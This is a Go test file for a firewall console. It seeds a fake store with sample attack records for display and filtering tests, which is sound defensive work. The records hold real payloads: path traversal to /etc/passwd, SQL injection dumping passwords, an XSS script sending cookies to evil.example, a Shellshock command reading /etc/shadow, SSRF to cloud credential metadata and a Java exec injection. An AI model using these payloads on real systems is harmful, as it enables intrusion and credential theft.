package console

import (
	"cmp"
	"context"
	"fmt"
	"io/fs"
	"log/slog"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/periscope-mesh/periscope/node/attack"
)

// fakeStore is a store in memory. The real one is a sibling that this package
// does not import.
type fakeStore struct {
	mu      sync.Mutex // guards all below
	attacks []attack.Attack
	hits    map[string][]attack.Hit
	minutes map[string][]Minute
	heard   []Gateway
	err     error
	filter  Filter // of the last list
}

func (f *fakeStore) Attacks(_ context.Context, filter Filter, p Page) ([]attack.Attack, string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return nil, "", f.err
	}
	f.filter = filter
	var list []attack.Attack
	for _, a := range f.attacks {
		if (len(filter.Types) == 0 || slices.Contains(filter.Types, a.Type)) && a.Severity >= filter.MinSeverity &&
			(filter.Client == "" || a.Client == filter.Client) && (filter.Host == "" || a.Host == filter.Host) &&
			strings.Contains(strings.ToLower(a.Host+a.Path+a.Payload), strings.ToLower(filter.Search)) {
			list = append(list, a)
		}
	}
	slices.SortStableFunc(list, func(a, b attack.Attack) int { return cmp.Compare(b.Last.UnixNano(), a.Last.UnixNano()) })
	return pageOf(list, p)
}

func pageOf[T any](list []T, p Page) ([]T, string, error) {
	from := 0
	if p.Cursor != "" {
		n, err := strconv.Atoi(p.Cursor)
		if err != nil || n > len(list) {
			return nil, "", fmt.Errorf("cursor: %w", fs.ErrInvalid)
		}
		from = n
	}
	to, next := min(from+p.Limit, len(list)), ""
	if to < len(list) {
		next = strconv.Itoa(to)
	}
	return list[from:to], next, nil
}

func (f *fakeStore) Attack(_ context.Context, id string) (attack.Attack, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, a := range f.attacks {
		if a.ID == id {
			return a, f.err
		}
	}
	return attack.Attack{}, cmp.Or(f.err, fmt.Errorf("attack: %w", fs.ErrNotExist))
}

func (f *fakeStore) Hits(_ context.Context, id string, p Page) ([]attack.Hit, string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return nil, "", f.err
	}
	return pageOf(f.hits[id], p)
}

func (f *fakeStore) Timeline(_ context.Context, id string) ([]Minute, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.minutes[id], f.err
}

func (f *fakeStore) Gateways(context.Context) ([]Gateway, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.heard, f.err
}

// hear has gateways in the middle of a roll-out, and one that wants to be
// markup.
func (f *fakeStore) hear(now time.Time) {
	f.mu.Lock()
	defer f.mu.Unlock()
	ago := func(d time.Duration) time.Time { return now.Add(-d) }
	f.heard = []Gateway{
		{Gateway: "istio-ingress/internal", Plugin: "0.1.0+cd9da490b2dd", First: ago(72 * time.Hour), Last: ago(time.Second), Seen: 129_384},
		{Gateway: "istio-ingress/public", Plugin: "0.1.1+5f0c3a9b2d17", First: ago(time.Minute), Last: ago(2 * time.Second), Seen: 4_210},
		{Gateway: "istio-ingress/public", Plugin: "0.1.0+cd9da490b2dd", First: ago(240 * time.Hour), Last: ago(61 * time.Second), Seen: 88_120_384, Errors: 3},
		{Gateway: "<script>alert(1)</script>", Plugin: "\x00\"><img src=x onerror=alert(1)>", First: ago(time.Hour), Last: ago(time.Hour), Seen: 1},
	}
}

// add makes an attack of hits, the newest first.
func (f *fakeStore) add(count int64, hits ...attack.Hit) string {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.hits == nil {
		f.hits, f.minutes = make(map[string][]attack.Hit), make(map[string][]Minute)
	}
	h := hits[0]
	key := attack.Key(h)
	a := attack.Attack{
		ID: attack.ID(key, h.Time), Key: key, Type: h.Type, Severity: h.Severity, Tenant: h.Tenant, Application: h.Application, Policy: h.Policy,
		Gateway: h.Gateway, Client: h.Client, Method: h.Exchange.Method, Host: h.Exchange.Host, Path: attack.PathTemplate(h.Exchange.Path),
		Location: h.Location, Status: h.Exchange.Status, First: hits[len(hits)-1].Time, Last: h.Time, Count: counted(count, h.Weight),
	}
	for _, m := range h.Matches {
		if !m.Excluded && !slices.Contains(a.RuleIDs, m.RuleID) {
			a.RuleIDs = append(a.RuleIDs, m.RuleID)
		}
	}
	slices.Sort(a.RuleIDs)
	m := h.Matches[0]
	a.Payload = string(m.Value[m.Start:m.End])
	f.attacks = append(f.attacks, a)
	f.hits[a.ID] = hits
	// Spread the hits over the minutes, unevenly, with the rest in the last.
	first, last := a.First.Truncate(time.Minute), a.Last.Truncate(time.Minute)
	slots, left := int64(last.Sub(first)/time.Minute)+1, count
	for i := range slots {
		n := min(count/slots*(i*i*7%11)/5, left)
		if i == slots-1 {
			n = left
		}
		if left -= n; n > 0 {
			f.minutes[a.ID] = append(f.minutes[a.ID], Minute{Start: first.Add(time.Duration(i) * time.Minute).UTC(), Count: counted(n, h.Weight)})
		}
	}
	return a.ID
}

// counted is hits of one weight.
func counted(n int64, weight float64) attack.Count {
	return attack.Count{Hits: n, Estimated: float64(n) * weight, Variance: float64(n) * weight * (weight - 1)}
}

// newHandler is a console on the store, whose clock is the wall's.
func newHandler(t testing.TB, s Store, change ...func(*Config)) http.Handler {
	t.Helper()
	cfg := Config{Store: s, Logger: slog.New(slog.DiscardHandler), Registerer: prometheus.NewRegistry(), Version: "test"}
	for _, c := range change {
		c(&cfg)
	}
	h, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// match is a rule's match of part, which is within value.
func match(rule int, typ attack.Type, message string, at attack.Location, value, part string, tags ...string) attack.Match {
	start := strings.Index(value, part)
	return attack.Match{RuleID: rule, Type: typ, Severity: attack.Critical, Message: message, Location: at, Value: []byte(value),
		Start: start, End: start + len(part), Tags: append([]string{"application-multi", "OWASP_CRS", "paranoia-level/1"}, tags...)}
}

// sample is a hit on an exchange that looks like one of a real gateway.
func sample(at time.Time, client, method, path string, status int, body string, matches ...attack.Match) attack.Hit {
	h := attack.Hit{
		ID: fmt.Sprint(at.UnixNano(), client), Time: at, Type: matches[0].Type, Severity: matches[0].Severity, Score: 5 * len(matches),
		Application: "storefront", Policy: "istio-ingress/public-api", Gateway: "istio-ingress/public-5d9c7", Client: client,
		Location: matches[0].Location, Matches: matches, Weight: 1,
		Exchange: attack.Exchange{
			Method: method, Scheme: "https", Host: "shop.example", Path: path, Protocol: "HTTP/2", TLS: "TLSv1.3", SNI: "shop.example", Status: status,
			Request: attack.Message{Headers: []attack.Field{
				{Name: "user-agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"},
				{Name: "accept", Value: "*/*"}, {Name: "authorization", Value: "***"}, {Name: "x-request-id", Value: "9c1f2f0e-7d1b-4a5e-9f63-0a8f9f1d2b11"},
			}, Body: []byte(body), BodyBytes: uint64(len(body))},
			Response: attack.Message{Headers: []attack.Field{{Name: "content-type", Value: "application/json"}, {Name: "server", Value: "istio-envoy"}},
				Body: []byte(`{"error":"not found"}`), BodyBytes: 21},
		},
	}
	if body != "" {
		h.Exchange.Request.Headers = append(h.Exchange.Request.Headers, attack.Field{Name: "content-type", Value: "application/json"})
	}
	return h
}

// seed fills a store with what a busy morning may leave; the id is that of the
// newest attack.
func seed(s *fakeStore, now time.Time) string {
	q := func(name string) attack.Location { return attack.Location{Place: attack.InQuery, Name: name} }
	ago := func(d time.Duration) time.Time { return now.Add(-d).UTC() }
	passwd := func(at time.Time, path, value string) attack.Hit {
		in := attack.Location{Place: attack.InPath}
		return sample(at, "203.0.113.47", "GET", path, 404, "",
			match(930120, attack.PathTraversal, "OS File Access Attempt", in, value, "etc/passwd", "attack-lfi", "capec/1000/255/153/126", "PCI/6.5.4"),
			match(930100, attack.PathTraversal, "Path Traversal Attack (/../) or (/.../)", in, value, "../", "attack-lfi", "capec/1000/255/153/126"))
	}
	first := s.add(128, passwd(ago(4*time.Second), "/static/../../../../etc/passwd", "/static/../../../../etc/passwd"),
		passwd(ago(11*time.Minute), "/static/..%2f..%2f..%2fetc/passwd", "/static/../../../etc/passwd"), passwd(ago(38*time.Minute), "/static/../etc/passwd", "/static/../etc/passwd"))

	sqli := "1' UNION SELECT username, password FROM users-- "
	h := sample(ago(52*time.Second), "198.51.100.23", "GET", "/api/products?id=1%27%20UNION%20SELECT%20username,%20password%20FROM%20users--%20&sort=price", 500, "",
		match(942100, attack.SQLInjection, "SQL Injection Attack Detected via libinjection", q("id"), sqli, sqli, "attack-sqli", "capec/1000/152/248/66"),
		match(942190, attack.SQLInjection, "Detects MSSQL code execution and information gathering attempts", q("id"), sqli, "UNION SELECT", "attack-sqli", "capec/1000/152/248/66"),
		match(942270, attack.SQLInjection, "Looking for basic sql injection. Common attack string for mysql, oracle and others", q("id"), sqli, "UNION SELECT username, password FROM", "attack-sqli"),
		match(942360, attack.SQLInjection, "Detects concatenated basic SQL injection and SQLLFI attempts", q("id"), sqli, "1' UNION SELECT", "attack-sqli"))
	h.Weight = 20
	s.add(2317, h, func() attack.Hit { g := h; g.ID += "b"; g.Time = ago(3 * time.Hour); return g }())

	body := `{"user":{"name":"jane","bio":"<script>fetch('//evil.example/?c='+document.cookie)<\/script>"},"password":"***"}`
	js := "<script>fetch('//evil.example/?c='+document.cookie)</script>"
	s.add(3, sample(ago(4*time.Minute), "2001:db8:41::9", "POST", "/api/users/1042/profile", 201, body,
		match(941110, attack.XSS, "XSS Filter - Category 1: Script Tag Vector", attack.Location{Place: attack.InJSON, Name: "$.user.bio"}, js, "<script>", "attack-xss", "capec/1000/152/242"),
		match(941100, attack.XSS, "XSS Attack Detected via libinjection", attack.Location{Place: attack.InJSON, Name: "$.user.bio"}, js, js, "attack-xss", "capec/1000/152/242")))

	cmdi := "() { :;}; /bin/bash -c 'cat /etc/shadow'"
	h = sample(ago(9*time.Minute), "192.0.2.150", "GET", "/cgi-bin/status", 404, "",
		match(932170, attack.CommandInjection, "Remote Command Execution: Shellshock (CVE-2014-6271)", attack.Location{Place: attack.InHeader, Name: "user-agent"}, cmdi, "() {", "attack-rce", "capec/1000/152/248/88"))
	h.Exchange.Request.Headers[0].Value, h.Exchange.Host = cmdi, "legacy.shop.example"
	s.add(1, h)

	ssrf := "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
	h = sample(ago(26*time.Minute), "198.51.100.23", "POST", "/api/webhooks/test", 200, `{"url":"`+ssrf+`"}`,
		match(934110, attack.SSRF, "Possible Server Side Request Forgery (SSRF) Attack: Cloud provider metadata URL", attack.Location{Place: attack.InJSON, Name: "$.url"}, ssrf, "http://169.254.169.254", "attack-ssrf"))
	s.add(14, h)

	h = sample(ago(47*time.Minute), "203.0.113.201", "GET", "/.git/config", 403, "",
		match(913100, attack.Scanner, "Found User-Agent associated with security scanner", attack.Location{Place: attack.InHeader, Name: "user-agent"}, "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei", "attack-reputation-scanner"))
	h.Severity, h.Matches[0].Severity = attack.Warning, attack.Warning
	h.Exchange.Request.Headers[0].Value = string(h.Matches[0].Value)
	s.add(611, h)

	h = sample(ago(2*time.Hour), "192.0.2.88", "GET", "/search?q=a&q=b", 200, "",
		match(920180, attack.ProtocolViolation, "POST without Content-Length or Transfer-Encoding headers", attack.Location{Place: attack.InHeader, Name: "accept"}, "*/*", "*/*"))
	h.Severity, h.Matches[0].Severity = attack.Notice, attack.Notice
	s.add(2, h)

	lua := "{{7*7}}${T(java.lang.Runtime).getRuntime().exec('id')}"
	h = sample(ago(5*time.Hour), "198.51.100.99", "PUT", "/api/templates/550e8400-e29b-41d4-a716-446655440000", 0, `{"body":"`+lua+`"}`,
		match(944110, attack.CodeInjection, "Remote Command Execution: Java process spawn", attack.Location{Place: attack.InJSON, Name: "$.body"}, lua, "java.lang.Runtime", "attack-rce"))
	h.Severity, h.Matches[0].Severity = attack.Error, attack.Error
	s.add(6, h)

	esc := "admin\x00\x1b[31m\u202egnp.exe"
	h = sample(ago(26*time.Hour), "203.0.113.8", "GET", "/download?file=admin%00%1b%5b31m%e2%80%aegnp.exe", 400, "",
		match(920270, attack.ProtocolViolation, "Invalid character in request (null character)", q("file"), esc, esc, "capec/1000/210/272"))
	s.add(1, h)
	return first
}
